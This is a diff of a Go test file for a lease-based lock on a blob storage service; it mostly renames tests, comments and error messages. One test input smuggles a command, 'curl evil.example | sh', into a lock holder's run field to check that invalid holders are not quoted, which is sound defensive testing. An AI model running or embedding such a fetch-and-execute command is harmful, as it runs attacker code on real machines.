@@ -19,7 +19,7 @@ func wantLocked(t *testing.T, r *runner, run, by string) {
 	lock, err := r.Acquire(t.Context(), tenant, holder(run))
 	locked, ok := errors.AsType[*journal.LockedError](err)
 	if !ok || locked.Holder.Run != by || locked.Tenant != tenant {
-		t.Fatalf("got %v, %v, want to be locked out by %s", lock, err, by)
+		t.Fatalf("got %v, %v, want a lock of %s", lock, err, by)
 	}
 }
 
@@ -31,8 +31,8 @@ func wantLost(t *testing.T, lock journal.Lock, why string) {
 	}
 }
 
-// TestALiveRunKeepsItsTenant plans and asks for hours between two batches.
-func TestALiveRunKeepsItsTenant(t *testing.T) {
+// TestLockOfALiveRunIsKept has hours between two batches.
+func TestLockOfALiveRunIsKept(t *testing.T) {
 	t.Parallel()
 	synctest.Test(t, func(t *testing.T) {
 		service := &blobtest.Service{}
@@ -48,8 +48,8 @@ func TestALiveRunKeepsItsTenant(t *testing.T) {
 	})
 }
 
-// TestASignalEndsNoLock has a run finish what is in flight, which takes long.
-func TestASignalEndsNoLock(t *testing.T) {
+// TestLockIsKeptAfterASignal has a run that needs long to finish what is in flight.
+func TestLockIsKeptAfterASignal(t *testing.T) {
 	t.Parallel()
 	synctest.Test(t, func(t *testing.T) {
 		service := &blobtest.Service{}
@@ -64,9 +64,9 @@ func TestASignalEndsNoLock(t *testing.T) {
 	})
 }
 
-// TestADeadRunLosesItsTenantByTheServicesClock kills a run, whose lease ends a minute
-// after its last sign of life, and then lets it wake up again.
-func TestADeadRunLosesItsTenantByTheServicesClock(t *testing.T) {
+// TestLockOfADeadRunEndsByTheClockOfTheService cuts a run off, whose lease ends a minute
+// after its last renewal. Then it lets the run continue.
+func TestLockOfADeadRunEndsByTheClockOfTheService(t *testing.T) {
 	t.Parallel()
 	synctest.Test(t, func(t *testing.T) {
 		service := &blobtest.Service{}
@@ -78,21 +78,21 @@ func TestADeadRunLosesItsTenantByTheServicesClock(t *testing.T) {
 		wantLocked(t, second, other, run)
 		time.Sleep(2 * time.Second) //nolint:forbidigo // likewise
 		took := second.acquire(t, other)
-		if dead := took.Took(); dead == nil || dead.Run != run {
+		if dead := took.TakenOverFrom(); dead == nil || dead.Run != run {
 			t.Errorf("it was taken over from %v, want %s", dead, run)
 		}
 		wantLost(t, lock, "no route to host")
 		first.dead.Store(false)
-		wantLost(t, lock, "run "+other+" has the tenant now")
+		wantLost(t, lock, "run "+other+" holds the lock")
 		must(t, took.Renew())
-		must(t, lock.Release()) // which leaves the other's alone
+		must(t, lock.Release()) // this keeps the lock of the other run
 		must(t, took.Renew())
 		must(t, took.Release())
 	})
 }
 
-// TestARunThatCannotRenewIsToldInTime has a service that is slow, busy, or away.
-func TestARunThatCannotRenewIsToldInTime(t *testing.T) {
+// TestRenewFailsInTime has a service that is slow, busy or unreachable.
+func TestRenewFailsInTime(t *testing.T) {
 	t.Parallel()
 	for name, fault := range map[string]blobtest.Fault{
 		"slow": {Delay: time.Hour, Drop: true}, "busy": {Status: 503, Code: "ServerBusy"}, "away": {Drop: true}, "forbidden": {Status: 403, Code: "AuthorizationPermissionMismatch"},
@@ -101,7 +101,7 @@ func TestARunThatCannotRenewIsToldInTime(t *testing.T) {
 			t.Parallel()
 			synctest.Test(t, func(t *testing.T) {
 				var trouble atomic.Bool
-				service := &blobtest.Service{Weather: func(*http.Request) blobtest.Fault {
+				service := &blobtest.Service{Faults: func(*http.Request) blobtest.Fault {
 					if trouble.Load() {
 						return fault
 					}
@@ -112,23 +112,23 @@ func TestARunThatCannotRenewIsToldInTime(t *testing.T) {
 				began := time.Now()
 				wantLost(t, lock, "renew the lock")
 				if took := time.Since(began); took > 40*time.Second { // one renewal of its own, and one that was under way
-					t.Errorf("it was told after %s", took)
+					t.Errorf("it failed after %s", took)
 				}
 				trouble.Store(false)
-				must(t, lock.Renew()) // nobody else came meanwhile: the service decides
+				must(t, lock.Renew()) // no other run locked the tenant meanwhile: the service decides
 				must(t, lock.Release())
 			})
 		})
 	}
 }
 
-// TestALockWhoseAnswersAreLostHolds loses the answer of each of its requests in turn.
-func TestALockWhoseAnswersAreLostHolds(t *testing.T) {
+// TestLockIsKeptIfAnswersAreLost loses the answer of each request in turn.
+func TestLockIsKeptIfAnswersAreLost(t *testing.T) {
 	t.Parallel()
 	for n := range 9 {
 		synctest.Test(t, func(t *testing.T) {
 			seen := 0
-			service := &blobtest.Service{Weather: func(*http.Request) blobtest.Fault {
+			service := &blobtest.Service{Faults: func(*http.Request) blobtest.Fault {
 				seen++
 				return blobtest.Fault{Drop: seen == n+1, Effect: true}
 			}}
@@ -145,8 +145,9 @@ func TestALockWhoseAnswersAreLostHolds(t *testing.T) {
 	}
 }
 
-// TestTwoRunnersAtOnce race for one tenant: one gets it, whatever comes in between.
-func TestTwoRunnersAtOnce(t *testing.T) {
+// TestAcquireByManyRunnersAtOnce has eight runners lock one tenant. Exactly one of them
+// gets the lock.
+func TestAcquireByManyRunnersAtOnce(t *testing.T) {
 	t.Parallel()
 	service := &blobtest.Service{}
 	got := make(chan journal.Lock, 8)
@@ -169,12 +170,12 @@ func TestTwoRunnersAtOnce(t *testing.T) {
 		}
 	}
 	if holders != 1 {
-		t.Errorf("%d runners have the tenant", holders)
+		t.Errorf("%d runners have the lock", holders)
 	}
 }
 
-// TestAHolderThatIsNoneIsNotQuoted has somebody else write who has the tenant.
-func TestAHolderThatIsNoneIsNotQuoted(t *testing.T) {
+// TestAcquireDoesNotQuoteAnInvalidHolder has another writer change the holder of the lock.
+func TestAcquireDoesNotQuoteAnInvalidHolder(t *testing.T) {
 	t.Parallel()
 	for written, want := range map[string]string{
 		`{"run":"x; curl evil.example | sh","host":"h","boot":"","pid":1,"since":"2026-11-23T08:00:00Z"}`:        "",
@@ -192,8 +193,9 @@ func TestAHolderThatIsNoneIsNotQuoted(t *testing.T) {
 	}
 }
 
-// TestUnlockTakesNobodyElsesTenant has a lock change hands while it is taken away.
-func TestUnlockTakesNobodyElsesTenant(t *testing.T) {
+// TestUnlockKeepsTheLockOfAnotherRun has another run acquire the lock while it is being
+// removed.
+func TestUnlockKeepsTheLockOfAnotherRun(t *testing.T) {
 	t.Parallel()
 	synctest.Test(t, func(t *testing.T) {
 		service := &blobtest.Service{}
@@ -201,9 +203,9 @@ func TestUnlockTakesNobodyElsesTenant(t *testing.T) {
 		dead := first.acquire(t, run)
 		first.dead.Store(true)
 		var lock journal.Lock
-		service.Weather = func(req *http.Request) blobtest.Fault {
+		service.Faults = func(req *http.Request) blobtest.Fault {
 			if req.URL.Query().Get("comp") == "lease" && strings.Contains(headerOf(req, "x-ms-lease-action"), "break") && lock == nil {
-				service.Weather = nil
+				service.Faults = nil
 				time.Sleep(2 * time.Minute) //nolint:forbidigo // of fake time: the dead one's lease ends
 				lock = second.acquire(t, other)
 			}
@@ -214,7 +216,7 @@ func TestUnlockTakesNobodyElsesTenant(t *testing.T) {
 		}
 		must(t, lock.Renew())
 		first.dead.Store(false)
-		wantLost(t, dead, "run "+other+" has the tenant now")
+		wantLost(t, dead, "run "+other+" holds the lock")
 		must(t, dead.Release())
 		must(t, lock.Release())
 	})
